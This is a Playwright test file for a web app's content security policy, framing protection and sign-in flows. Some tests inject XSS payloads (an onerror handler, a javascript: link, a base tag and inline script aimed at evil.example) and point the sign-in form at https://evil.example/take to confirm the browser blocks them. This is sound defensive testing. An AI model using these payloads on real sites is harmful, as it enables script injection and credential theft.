import type { Page } from '@playwright/test';
import { expect, password, signIn, submitCredentials, test } from './fixtures.ts';

declare global {
  interface Window {
    violations?: string[];
    injected?: boolean;
  }
}

const publicPages = [
  '/',
  '/sign-in',
  '/sign-in?error=user_pool_unavailable',
  '/sign-in?reason=ended',
  '/no-such-page',
  '/errors/unavailable',
  '/errors/unauthorized',
  '/errors/forbidden',
  '/reference',
];
const gatedPages = [
  '/home',
  '/notes',
  '/notes/new',
  '/admin',
  '/pro',
  '/account/sessions',
  '/account/password',
  '/account/aws-credentials',
];

/** Everything that the browser refuses from now on, on each page that it loads. */
async function watch(page: Page): Promise<void> {
  await page.addInitScript(() => {
    window.violations = [];
    document.addEventListener('securitypolicyviolation', (event) => {
      window.violations?.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile ?? ''}`);
    });
  });
}

const violations = (page: Page): Promise<string[]> =>
  page.evaluate(() => window.violations ?? ['not watched']);

/** React keeps its own properties on the elements that it has taken over. */
const isHydrated = (page: Page): Promise<boolean> =>
  page.evaluate(() => Object.keys(document).some((key) => key.startsWith('__reactContainer')));

test('BS-19 no page breaks its own content security policy, and each of them hydrates', async ({ page }) => {
  const errors: string[] = [];
  page.on('pageerror', (error) => errors.push(error.message));
  page.on('console', (message) => {
    if (/Content Security Policy|hydrat/i.test(message.text())) errors.push(message.text());
  });
  await watch(page);
  for (const path of publicPages) {
    await page.goto(path, { waitUntil: 'networkidle' });
    expect(await violations(page), path).toEqual([]);
    await expect.poll(() => isHydrated(page), path).toBe(true);
  }
  await signIn(page, 'grace@example.com');
  for (const path of gatedPages) {
    await page.goto(path, { waitUntil: 'networkidle' });
    expect(await violations(page), path).toEqual([]);
    await expect.poll(() => isHydrated(page), path).toBe(true);
  }
  await page.getByRole('button', { name: 'Sign out' }).first().click();
  await expect(page).toHaveURL('/');
  expect(await violations(page)).toEqual([]);
  expect(errors).toEqual([]);
});

test('BS-19 an injected script does not run: inline, as a handler, by address or by a base', async ({
  page,
}) => {
  await watch(page);
  await page.goto('/sign-in');
  await page.evaluate(() => {
    const holder = document.createElement('div');
    holder.innerHTML =
      '<img src="/nowhere" onerror="window.injected = true"><a href="javascript:window.injected=true">x</a>';
    document.body.append(holder);
    holder.querySelector('a')?.click();
    const base = document.createElement('base');
    base.href = 'https://evil.example/';
    document.head.append(base);
    document.body.insertAdjacentHTML('beforeend', '<style>body { background: red }</style>');
  });
  await expect
    .poll(async () => (await violations(page)).map((line) => line.split(' ')[0]))
    .toEqual(expect.arrayContaining(['script-src-attr', 'base-uri', 'style-src-elem']));
  expect(await page.evaluate(() => window.injected)).toBeUndefined();
  expect(await page.evaluate(() => document.baseURI)).not.toContain('evil');
});

test('BS-19 markup that the server sent by mistake would not run either', async ({ page }) => {
  await watch(page);
  await page.route('**/sign-in', async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace(
      '</body>',
      '<script>window.injected = true</script><script src="/injected.js"></script></body>',
    );
    await route.fulfill({ response, body });
  });
  await page.goto('/sign-in');
  await expect.poll(async () => (await violations(page)).length).toBeGreaterThanOrEqual(2);
  expect(await page.evaluate(() => window.injected)).toBeUndefined();
});

test('BS-19 a form may not be pointed at another site', async ({ page }) => {
  const refusals: string[] = [];
  page.on('console', (message) => {
    if (message.text().includes('form-action')) refusals.push(message.text());
  });
  await page.goto('/sign-in');
  await page.evaluate(() => {
    for (const form of document.forms) {
      form.action = 'https://evil.example/take';
      form.submit();
    }
  });
  await expect.poll(() => refusals.length).toBeGreaterThan(0);
  expect(page.url()).toMatch(/\/sign-in$/);
});

test('BS-19 no page may be framed', async ({ page, baseURL }) => {
  await page.route('https://framing.example/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/sign-in"></iframe>` }),
  );
  await page.goto('https://framing.example/');
  await page.waitForTimeout(500);
  const [, frame] = page.frames();
  expect(await frame?.evaluate(() => document.forms.length).catch(() => 0)).toBe(0);
});

test('OF-05 two tabs sign in at once, and both finish where they were meant to', async ({ context }) => {
  const [first, second] = [await context.newPage(), await context.newPage()];
  for (const [tab, path] of [
    [first, '/home'],
    [second, '/pro?month=11'],
  ] as const) {
    await tab.goto(`/sign-in?${new URLSearchParams({ returnTo: path })}`);
    await tab
      .getByRole('main')
      .getByRole('button', { name: /sign in/i })
      .click();
    await expect(tab.getByLabel('Password', { exact: true })).toBeVisible();
  }
  await submitCredentials(first, 'grace@example.com', password);
  await expect(first).toHaveURL('/home');
  await submitCredentials(second, 'grace@example.com', password);
  await expect(second).toHaveURL('/pro?month=11');
  await expect(second.getByRole('main')).toContainText(/pro/i);
  expect(
    (await context.cookies()).map(({ name }) => name).filter((name) => name.startsWith('flow-')),
  ).toEqual([]);
});

test('OF-03 going back to a finished sign-in leads to the page and not to an error', async ({ page }) => {
  const callbacks: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('/api/auth/callback/')) callbacks.push(request.url());
  });
  await signIn(page, 'ada@example.com');
  await page.goto(callbacks.at(-1) ?? '');
  await expect(page).toHaveURL('/home');
  await expect(page.getByRole('main').getByRole('alert')).toHaveCount(0);
});
